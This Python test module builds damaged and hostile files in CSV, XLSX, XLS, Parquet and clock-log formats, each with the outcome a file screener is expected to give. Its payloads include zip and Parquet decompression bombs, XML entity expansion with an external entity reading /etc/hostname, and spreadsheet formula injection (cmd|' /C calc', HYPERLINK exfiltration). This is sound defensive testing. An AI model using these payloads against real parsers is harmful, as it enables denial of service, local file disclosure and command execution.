"""Damaged and hostile files of every format: what each is, and what is to become of it.

A case is a table's file as bytes with what is expected: the one `code` that refuses the whole, or how many rows are
`read` and `accepted`. Everything is made here, from a fixed seed.
"""

import io
import random
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import duckdb
import xlsxwriter

from tests.screening import legacy
from tests.screening.written import text, workbook

SEED = 20_240_304
ROWS = [["worker", "time"], *([f"{n}", f"2024-03-14 07:00:0{n}"] for n in range(1, 7))]
CLOCK = "".join(f"{n:>9}\t2024-03-14 07:00:0{n}\t1\t0\t0\t0\r\n" for n in range(1, 7)).encode()
MEGABYTE = 2**20
# Cells that a spreadsheet would run: links, programs, functions, and the same after a sign that it skips.
FORMULAS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"7")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "＝1+1",
)
DOCUMENT = {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}
TEXTS = ("utf-8", "utf-8-sig", "gb18030", "big5hkscs", "utf-16", "utf-16-le", "utf-16-be")


@dataclass(frozen=True)
class Case:
    """A file: its format and damage, the bytes, and what becomes of them."""

    format: str
    damage: str
    make: Callable[[], bytes]
    code: str = ""  # of the one refusal, where the file as a whole is refused
    read: int = 0
    accepted: int = 0

    @property
    def id(self) -> str:
        """What a test is called by."""
        return f"{self.format}-{self.damage}"


def noise(size: int = 4_096) -> bytes:
    """Bytes that mean nothing; without one that would make them a known kind of file by chance."""
    return b"\x9c" + random.Random(SEED).randbytes(size)


@cache
def book() -> bytes:
    """The good workbook."""
    return workbook({"1": ROWS})


@cache
def legacy_book() -> bytes:
    """The good workbook in the old format."""
    return legacy.workbook("1", ROWS)


@cache
def parquet(query: str = "", options: str = "") -> bytes:
    """The rows of a query as Parquet; by default a good file of six rows."""
    query = query or (
        "SELECT CAST(n AS VARCHAR) AS worker, DATE '2024-03-14' AS day, TIMESTAMP '2024-03-14 07:00:00' AS in_at, "
        "TIMESTAMP '2024-03-14 16:00:00' AS out_at FROM range(1, 7) t(n)"
    )
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "x.parquet"
        duckdb.sql(f"COPY ({query}) TO '{file}' (FORMAT parquet{options})")
        return file.read_bytes()


# -------------------------------------------------------------------------------------------------------- archives


def parts_of(data: bytes) -> dict[str, bytes]:
    """The parts of an archive, by name."""
    with zipfile.ZipFile(io.BytesIO(data)) as held:
        return {name: held.read(name) for name in held.namelist()}


def archive(parts: dict[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def with_part(name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The good workbook with one part changed."""
    parts = parts_of(book())
    return archive({**parts, name: change(parts.get(name, b""))})


def bomb(part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A workbook of which one part unpacks to 64 MiB of one sign."""
    return with_part(part, lambda content: content + b"0" * (64 * MEGABYTE))


def lying(data: bytes, size: int = 1_000) -> bytes:
    """The same archive with another size for its largest part, in both of its directories."""
    with zipfile.ZipFile(io.BytesIO(data)) as held:
        large = max(held.infolist(), key=lambda one: one.file_size)
    changed, place = bytearray(data), large.header_offset
    changed[place + 22 : place + 26] = struct.pack("<I", size)
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        if struct.unpack("<I", data[central + 42 : central + 46])[0] == place:
            changed[central + 24 : central + 28] = struct.pack("<I", size)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(changed)


def overlapping(count: int = 2_000) -> bytes:
    """An archive of which every entry of the directory points at the same packed part of 4 MiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = (b"<row><c><v>1</v></c></row>" * 400_000)[: 4 * MEGABYTE]
    packed = packer.compress(plain) + packer.flush()
    name = b"xl/worksheets/sheet1.xml"
    sizes = struct.pack("<III", zlib.crc32(plain), len(packed), len(plain))
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", len(name), 0) + name
    first = local + packed
    directory = b""
    for number in range(count):
        own = b"[Content_Types].xml" if number == 0 else b"xl/worksheets/sheet%d.xml" % number
        directory += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        directory += struct.pack("<HHHHHII", len(own), 0, 0, 0, 0, 0, 0) + own
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(first), 0)
    return first + directory + end


def many_members(count: int = 60_000) -> bytes:
    """The good workbook among very many small parts."""
    return archive({**parts_of(book()), **{f"xl/x/{n}": b"0" for n in range(count)}}, zipfile.ZIP_STORED)


def encrypted() -> bytes:
    """The good workbook with the mark of a password on every part."""
    data = bytearray(book())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + flags] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def protected() -> bytes:
    """A workbook under a password as Office keeps it: a compound file with the packed workbook inside."""
    return legacy.compound({"EncryptionInfo": b"\x04\x00\x04\x00" + bytes(5_000), "EncryptedPackage": noise(5_000)})


def spread(rows: int, columns: int) -> bytes:
    """A small workbook whose two cells span so much."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as made:
        sheet = made.add_worksheet()
        sheet.write(0, 0, "worker")
        sheet.write(rows - 1, columns - 1, "time")
    return out.getvalue()


def with_doctype(content: bytes) -> bytes:
    """XML with an entity that grows by a thousand million, and one from outside, in place of its first cell's text."""
    grow = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE x [<!ENTITY e0 "lol"><!ENTITY out SYSTEM "file:///etc/hostname">{grow}]>'.encode()
    mark = content.find(b"?>") + 2
    return (content[:mark] + head + content[mark:]).replace(b">worker<", b">worker&e9;&out;<", 1)


def without_values(content: bytes) -> bytes:
    """The sheet with a formula, and no value kept, in the second cell of its last row."""
    place = content.rfind(b'<c r="B7"')
    end = content.find(b"</c>", place) + 4
    return content[:place] + b'<c r="B7"><f>NOW()-HYPERLINK("x")</f></c>' + content[end:]


def shared_bomb() -> bytes:
    """A workbook of a million cells which all show one shared text of 30,000 signs: small, and 30 GB once laid out."""
    cell = b'<c r="A%d" t="s"><v>0</v></c>'
    rows = b"".join(b'<row r="%d">' % n + cell % n + b"</row>" for n in range(1, 300_001))
    parts = parts_of(book())
    sheet, strings = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
    start = parts[sheet].find(b"<sheetData>") + len(b"<sheetData>")
    end = parts[sheet].find(b"</sheetData>")
    told = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + b"7x" * 15_000
    return archive(
        {**parts, sheet: parts[sheet][:start] + rows + parts[sheet][end:], strings: told + b"</t></si></sst>"}
    )


# ------------------------------------------------------------------------------------------- compound files, Parquet


def looped() -> bytes:
    """An old workbook whose chains of sectors go in circles."""
    data = bytearray(legacy_book())
    first = struct.unpack("<I", data[76:80])[0]
    table = 512 + first * 512
    for place in range(0, 512, 4):
        value = struct.unpack("<I", data[table + place : table + place + 4])[0]
        if value not in (0xFFFFFFFF, 0xFFFFFFFD):
            data[table + place : table + place + 4] = struct.pack("<I", place // 4)
    return bytes(data)


def broken_directory() -> bytes:
    """An old workbook of which the directory begins beyond the end of the file."""
    data = bytearray(legacy_book())
    data[48:52] = struct.pack("<I", 0x00FF_FFFF)
    return bytes(data)


def footer(change: Callable[[bytearray], None]) -> bytes:
    """The good Parquet file with its end changed."""
    data = bytearray(parquet())
    change(data)
    return bytes(data)


def _long_footer(data: bytearray) -> None:
    data[-8:-4] = struct.pack("<I", 0x7FFF_FFFF)


def _noisy_footer(data: bytearray) -> None:
    data[-200:-8] = noise(191)


def _noisy_pages(data: bytearray) -> None:
    data[4:120] = noise(115)


def rows_bomb() -> bytes:
    """A Parquet file of twenty million equal rows in some kilobytes."""
    return parquet("SELECT '7' AS worker, 1 AS day, 1 AS in_at, 2 AS out_at FROM range(20000000)",
                   ", COMPRESSION zstd, ROW_GROUP_SIZE 20000000")  # fmt: skip


def texts_bomb() -> bytes:
    """A Parquet file of 100,000 rows that all show one text of 4 MiB: small, and 400 GB once laid out."""
    import pyarrow
    from pyarrow import parquet as writer

    same = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 100_000, pyarrow.int32()), ["7" * (4 * MEGABYTE)])
    number = pyarrow.array([1] * 100_000, pyarrow.int32())
    out = io.BytesIO()
    names = ("worker", "day", "in_at", "out_at", "editor")
    writer.write_table(
        pyarrow.table(dict(zip(names, (number, number, number, number, same), strict=True))), out, compression="zstd"
    )
    return out.getvalue()


def wide_parquet(columns: int = 2_000) -> bytes:
    """A Parquet file of very many columns."""
    return parquet("SELECT " + ", ".join(f"{n} AS c{n}" for n in range(columns)))


# ------------------------------------------------------------------------------------------------------- the table


def formulas(separator: str = ",") -> bytes:
    """Formulas where a number, a time and words should stand."""
    rows = [["worker", "time", "note"]]
    rows += [[cell, "2024-03-14 07:00:00", "x"] for cell in FORMULAS]
    rows += [["7", cell, "x"] for cell in FORMULAS]
    return text(rows, separator=separator)


def formulas_in_a_book() -> bytes:
    """The same in a workbook, as texts."""
    return workbook({"1": [["worker", "time"], *(["7", cell] for cell in FORMULAS)]})


def wide_csv() -> bytes:
    """A hundred rows of 8,000 columns, as long as a row may be."""
    return b"worker,time" + b",x" * 7_998 + b"\n" + (b"7," * 8_000 + b"\n") * 100


def torn(content: bytes) -> bytes:
    """The first half."""
    return content[: len(content) // 2]


def mixed_ends() -> bytes:
    """Lines that end in every way, in one file."""
    return (
        b"worker,time\r1,2024-03-14 07:00:01\r\n2,2024-03-14 07:00:02\n3,2024-03-14 07:00:03\r\r\n4,2024-03-14 07:00:04"
    )


def _encoded(encoding: str) -> bytes:
    return text([["工號", "時間"], *ROWS[1:]], encoding=encoding)


CASES = (
    # -- the clock's own file
    Case("attlog", "empty", lambda: b""),
    Case("attlog", "cut", lambda: CLOCK[:-20], read=6, accepted=5),
    Case("attlog", "noise", noise, read=-1),
    Case("attlog", "nul", lambda: CLOCK.replace(b"2024", b"20\x004", 1), read=6, accepted=5),
    Case("attlog", "nul-only", lambda: bytes(MEGABYTE), read=1),
    Case("attlog", "mixed-ends", lambda: CLOCK.replace(b"\r\n", b"\r", 2).replace(b"\r\n", b"\n", 2), read=6, accepted=6),
    Case("attlog", "one-line-of-50-MB", lambda: b"7\t" * (25 * MEGABYTE), read=1),
    Case("attlog", "long-line-of-50-MB-before", lambda: b"9" * (50 * MEGABYTE) + b"\n" + CLOCK, read=7, accepted=6),
    Case("attlog", "is-a-workbook", book, read=6, accepted=6),
    # -- CSV and TSV
    *(Case(f"csv-{one}", "cut", lambda one=one: _encoded(one)[:-11], read=6, accepted=5) for one in TEXTS),
    *(
        Case(f"tsv-{one}", "cut", lambda one=one: text(ROWS, separator="\t", encoding=one)[:-11], read=6, accepted=5)
        for one in ("utf-8", "utf-16")
    ),
    *(Case(f"csv-{one}", "half-a-sign", lambda one=one: _encoded(one)[:-1], read=6, accepted=5) for one in ("utf-16-le",)),
    Case("csv", "empty", lambda: b""),
    Case("csv", "mark-only", lambda: b"\xef\xbb\xbf"),
    Case("csv", "noise", noise, read=-1),
    Case("csv", "noise-behind", lambda: text(ROWS) + noise(), read=-1, accepted=6),
    Case("csv", "nul", lambda: text(ROWS).replace(b"07:00:03", b"07:\x0000:03"), read=6, accepted=5),
    Case("csv", "mixed-ends", mixed_ends, read=4, accepted=4),
    Case("csv", "formulas", formulas, read=17, accepted=6),
    Case("tsv", "formulas", lambda: formulas("\t"), read=17, accepted=6),
    Case("csv", "one-line-of-50-MB", lambda: b"worker,time," + b"x" * (50 * MEGABYTE), read=1),
    Case("csv", "one-cell-of-50-MB-in-quotes", lambda: text(ROWS) + b'7,"' + b"x" * (50 * MEGABYTE), read=7, accepted=6),
    Case("csv", "a-cell-of-20,000-lines", lambda: text(ROWS) + b'7,"' + b"x\n" * 20_000 + b'"\n', read=-1, accepted=6),
    Case("csv", "100,000-columns", lambda: text(ROWS) + b"x," * 100_000 + b"\n", read=7, accepted=6),
    Case("csv", "100,000-columns-in-every-row", lambda: (b"7," * 100_000 + b"\n") * 20, read=20),
    Case("csv", "8,000-columns-in-every-row", wide_csv, read=100),
    Case("csv", "is-a-legacy-workbook", legacy_book, read=6, accepted=6),
    Case("csv", "is-a-picture", lambda: b"\x89PNG\r\n\x1a\n" + noise(), code="wrong-file"),
    Case("csv", "is-packed", lambda: b"\x1f\x8b" + noise(), code="wrong-file"),
    Case("csv", "open-quotes", lambda: b"worker,time\n" + b'"7,x\n' * 50_000, read=50_000),
    # -- XLSX
    Case("xlsx", "empty", lambda: b""),
    Case("xlsx", "cut", lambda: book()[: len(book()) // 2], code="damaged-workbook"),
    Case("xlsx", "cut-directory", lambda: book()[:-30], code="damaged-workbook"),
    Case("xlsx", "noise-behind-the-first-bytes", lambda: b"PK\x03\x04xl/" + noise(), code="damaged-workbook"),
    Case("xlsx", "is-text", lambda: text(ROWS), read=6, accepted=6),
    Case("xlsx", "is-another-archive", lambda: archive({"readme.txt": b"hello"}), code="wrong-file"),
    Case("xlsx", "is-a-document", lambda: archive(DOCUMENT), code="damaged-workbook"),
    Case("xlsx", "encrypted", encrypted, code="locked-workbook"),
    Case("xlsx", "password", protected, code="locked-workbook"),
    Case("xlsx", "doctype-in-the-sheet", lambda: with_part("xl/worksheets/sheet1.xml", with_doctype), read=6, accepted=6),
    Case("xlsx", "doctype-in-the-strings", lambda: with_part("xl/sharedStrings.xml", with_doctype), code="damaged-workbook"),
    Case("xlsx", "doctype-in-the-book", lambda: with_part("xl/workbook.xml", with_doctype), read=6, accepted=6),
    Case("xlsx", "formulas-without-values", lambda: with_part("xl/worksheets/sheet1.xml", without_values), read=6, accepted=5),
    Case("xlsx", "formulas", formulas_in_a_book, read=8),
    Case("xlsx", "no-sheet", lambda: with_part("xl/worksheets/sheet1.xml", lambda content: b""), code="damaged-workbook"),
    Case("xlsx", "torn-xml", lambda: with_part("xl/worksheets/sheet1.xml", torn), code="damaged-workbook"),
    Case("xlsx", "bomb", bomb, code="bomb"),
    Case("xlsx", "bomb-of-strings", lambda: bomb("xl/sharedStrings.xml"), code="bomb"),
    Case("xlsx", "bomb-that-lies", lambda: lying(bomb()), code="bomb"),
    Case("xlsx", "lies-too-large", lambda: lying(book(), 2**32 - 2), code="bomb"),
    Case("xlsx", "lies-too-small", lambda: lying(book(), 3), read=6, accepted=6),
    Case("xlsx", "nested-bomb", lambda: archive({**parts_of(book()), "xl/media/x.xlsx": bomb()}), read=6, accepted=6),
    Case("xlsx", "archive-in-an-archive", lambda: archive({"a.xlsx": book()}), code="wrong-file"),
    Case("xlsx", "overlapping", overlapping, code="bomb"),
    Case("xlsx", "60,000-members", many_members, code="bomb"),
    Case("xlsx", "shared-text-bomb", shared_bomb, code="bomb"),
    Case("xlsx", "all-of-a-sheet", lambda: spread(1_048_576, 16_384), code="bomb"),
    Case("xlsx", "a-million-rows-of-40", lambda: spread(1_048_576, 40), code="bomb"),
    Case("xlsx", "a-row-of-8-million-signs", lambda: workbook({"1": [*ROWS, ["7" * 4_000] * 2_000]}), read=7, accepted=6),
    # -- XLS
    Case("xls", "cut", lambda: legacy_book()[: len(legacy_book()) // 2], code="damaged-workbook"),
    Case("xls", "noise", lambda: legacy_book()[:8] + noise(), code="damaged-workbook"),
    Case("xls", "noise-within", lambda: legacy_book()[:600] + noise(300) + legacy_book()[900:], code="damaged-workbook"),
    Case("xls", "looped-sectors", looped, code="bomb"),
    Case("xls", "broken-directory", broken_directory, code="damaged-workbook"),
    Case("xls", "is-text", lambda: text(ROWS, encoding="gb18030"), read=6, accepted=6),
    # -- Parquet
    Case("parquet", "cut", lambda: parquet()[: len(parquet()) // 2], code="parquet-damaged"),
    Case("parquet", "mark-only", lambda: b"PAR1", code="parquet-damaged"),
    Case("parquet", "noise", lambda: b"PAR1" + noise() + b"PAR1", code="parquet-damaged"),
    Case("parquet", "long-footer", lambda: footer(_long_footer), code="parquet-damaged"),
    Case("parquet", "noisy-footer", lambda: footer(_noisy_footer), code="parquet-damaged"),
    Case("parquet", "noisy-pages", lambda: footer(_noisy_pages), code="parquet-damaged"),
    Case("parquet", "encrypted", lambda: b"PARE" + parquet()[4:-4] + b"PARE", code="wrong-file"),
    Case("parquet", "rows-bomb", rows_bomb, code="parquet-bomb"),
    Case("parquet", "texts-bomb", texts_bomb, code="parquet-bomb"),
    Case("parquet", "2,000-columns", wide_parquet, code="parquet-column"),
    Case("parquet", "is-text", lambda: text(ROWS), read=6, accepted=6),
)  # fmt: skip
